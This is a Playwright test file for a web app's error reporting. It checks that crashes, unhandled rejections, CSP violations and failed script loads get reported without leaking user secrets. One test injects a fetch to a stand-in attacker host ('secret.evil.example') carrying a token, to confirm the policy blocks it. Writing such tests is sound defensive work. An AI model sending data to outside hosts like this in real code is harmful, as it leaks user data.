import type { Page } from 'playwright-core';
import * as assert from 'uvu/assert';
import { buildElsewhere } from '../build/built-elsewhere';
import { startSandbox } from '../sandbox/sandbox';
import { until } from '../sandbox/until';
import { REPORTS, takeReport } from '../serve/reports';
import { staticHost } from '../serve/static-host';
import { type SandboxStage, suiteAgainst } from './chromium';
import { hydrated } from './held-scripts';
import { keepOnce } from './player-page';

const HOST = '127.0.0.75';
const PORT = 8002;

const received: string[] = [];

const { test, run } = suiteAgainst('reports of what breaks', async () => {
  const REPORT_URL = `http://${HOST}:${PORT}${REPORTS}`;
  const { dist } = await buildElsewhere('reports', { PATH: process.env.PATH, REPORT_URL });
  const site = staticHost(dist);
  const sandbox = await startSandbox({
    host: HOST,
    port: PORT,
    serve: (req, res) => (req.url === REPORTS ? takeReport(req, res, (line) => received.push(line)) : site(req, res)),
  });
  return { backend: sandbox, parts: { sandbox } };
});

/** What a message, an address or a session holds in these tests, and no report. */
const SECRETS = ['secret', '7001', 'asha', 'refId'];
const MESSAGE = 'a secret of asha (7001)';

/** Runs a scene in a page of the demo player whose reports can be sent. Errors and violations don't fail the test. */
async function visit({ browser, sandbox }: SandboxStage, path: string, scene: (page: Page) => Promise<void>) {
  received.length = 0;
  const context = await browser.newContext({ baseURL: sandbox.origin, serviceWorkers: 'block' });
  const page = await context.newPage();
  page.setDefaultTimeout(30_000);
  try {
    await keepOnce(page, { authToken: sandbox.signIn('asha') });
    await page.goto(`${path}?refId=secret`);
    await page.waitForLoadState('networkidle');
    await hydrated(page);
    await scene(page);
    await page.goto('about:blank');
  } finally {
    await context.close();
  }
  for (const secret of SECRETS)
    assert.equal(
      received.filter((line) => line.includes(secret)),
      [],
      secret,
    );
}

/** Waits for a report of this trouble and asserts what it tells, but for the positions. Returns those. */
async function arrives(trouble: string, expected: object): Promise<string> {
  const reports = () => received.map((line) => JSON.parse(line)).filter((report) => report.trouble === trouble);
  await until(() => reports().length > 0);
  const [{ at = [], build, ...facts }] = reports();
  assert.equal(facts, { trouble, ...expected });
  assert.match(build, /^[A-Z2-7]{8}$/);
  return at.join(' ');
}

const POSITIONS = /^([\w-]+-[A-Z2-7]{8}\.js:\d+:\d+ ?)+$/;

test('a crash is reported once while its screen is shown', (stage) =>
  visit(stage, '/wallet', async (page) => {
    await page.evaluate((message) => {
      HTMLDialogElement.prototype.showModal = () => {
        throw new RangeError(message);
      };
    }, MESSAGE);
    await page.getByRole('button', { name: 'Menu' }).click();
    await page.getByText(MESSAGE).waitFor();
    assert.match(await arrives('crash', { error: 'RangeError', route: 'wallet' }), POSITIONS);
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.getByText(MESSAGE).waitFor();
    assert.is(received.length, 1);
  }));

test('a rejection that nobody handles is reported, and so is an error before the code for it has loaded', (stage) =>
  visit(stage, '/login', async (page) => {
    await page.evaluate((message) => void setTimeout(() => Promise.reject(new TypeError(message))), MESSAGE);
    await arrives('rejection', { error: 'TypeError', route: 'login' });
    await page.addInitScript((message) => {
      addEventListener('DOMContentLoaded', () =>
        setTimeout(() => {
          throw new Error(message);
        }),
      );
    }, MESSAGE);
    await page.reload();
    await arrives('crash', { error: 'Error', route: 'login' });
  }));

test('what the policy blocks is reported without its address', (stage) =>
  visit(stage, '/refer', async (page) => {
    await page.evaluate(() => setTimeout(() => fetch('https://secret.evil.example/?t=7001').catch(() => {})));
    await arrives('violation', { directive: 'connect-src', blocked: 'https', route: 'refer' });
  }));

test('code that couldn’t be loaded is reported', (stage) =>
  visit(stage, '/login', async (page) => {
    const core = await page.locator('script[type=module]').first().getAttribute('src');
    const gone = new Set<string>();
    await page.route('**/assets/*.js', (route) => {
      const address = new URL(route.request().url()).pathname;
      if (address === core) return route.continue();
      gone.add(address.replace('/assets/', ''));
      return route.fulfill({ status: 404, body: '' });
    });
    await page.getByRole('link', { name: 'Forgot password?' }).click();
    const named = await arrives('chunk', { error: 'TypeError', route: 'forgot-password' });
    assert.ok(
      named.split(' ').some((file) => gone.has(file)),
      `${named} is among ${[...gone]}`,
    );
    // The page is reloaded once before it says so.
    await page.getByText('This part of the app couldn’t be loaded.').waitFor();
  }));

run();
